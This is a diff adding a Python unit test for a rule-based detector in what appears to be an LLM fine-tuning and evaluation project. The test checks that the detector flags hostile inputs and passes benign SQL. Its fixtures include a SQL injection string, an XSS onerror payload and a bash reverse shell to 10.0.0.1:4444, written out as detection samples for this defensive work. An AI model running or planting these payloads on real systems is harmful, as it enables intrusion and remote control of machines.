@@ -184,3 +184,20 @@ def test_top_layers_adapts_only_the_top_layers(tiny_llama_dir: Path, tmp_path: P
     assert keys and all(".layers.1." in k for k in keys), keys[:4]
     config = json.loads((out / "adapter_config.json").read_text())
     assert config["layers_to_transform"] == [1]
+
+
+def test_fwyy_rules_detector_row_is_the_static_checks_alone() -> None:
+    from fwyy_ollama.evaluation.detectors import DETECTORS, run_detector
+
+    assert set(DETECTORS["fwyy-rules"].categories) == {"sqli", "xss", "bash", "python"}
+    verdicts = run_detector(
+        "fwyy-rules",
+        [
+            ("1' OR '1'='1", "sqli"),
+            ("SELECT name FROM users WHERE id = 3", "sqli"),
+            ("<img src=x onerror=alert(1)>", "xss"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash"),
+        ],
+    )
+    assert [v.risky for v in verdicts] == [True, False, True, True]
+    assert verdicts[1].detail == "nothing matched" and "bash:" in verdicts[3].detail
